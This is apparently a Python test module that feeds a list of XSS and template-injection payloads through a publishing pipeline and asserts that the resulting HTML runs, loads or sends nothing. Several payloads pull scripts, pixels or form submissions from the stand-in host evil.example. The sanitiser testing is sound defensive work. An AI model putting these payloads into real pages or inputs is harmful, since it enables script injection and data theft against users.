"""Texts that try to run or load something where they are shown, and a check that none does."""

from __future__ import annotations

import re

from tests.publish.conftest import read_html

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script src=https://evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.gif)",
    "<https://ok.example> <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<math><mtext></p><style><a title='</style><img src onerror=alert(1)>'>",
    "<form action=https://evil.example><input autofocus onfocus=alert(1)>",
    "<b style='position:fixed' class=a-head id=content>big</b>",
    "{{ config }} {% raw %} ${7*7} <%= 7 %>",
    "]]><!-- --><object data=x></object><embed src=x><base href=https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202eright to left\u2066 <script>",
)

_HANDLER = re.compile(r"on[a-z]+\Z")
_RUNS = frozenset(["script", "iframe", "object", "embed", "style", "math", "foreignobject"])
_LOADS_OR_SENDS = frozenset(["base", "form", "img", "input", "link", "meta"])


def assert_harmless(html: str) -> None:
    """Nothing in a piece of HTML runs, loads, styles or sends anything."""
    for element, attributes in read_html(html).elements:
        assert element not in _RUNS | _LOADS_OR_SENDS, element
        for name, value in attributes.items():
            assert not _HANDLER.match(name), (element, name)
            if name in ("href", "src", "action", "xlink:href"):
                scheme = re.match(r"\s*([a-zA-Z][^/?#:]*):", value or "")
                assert scheme is None or scheme[1] in ("https", "http", "mailto"), value
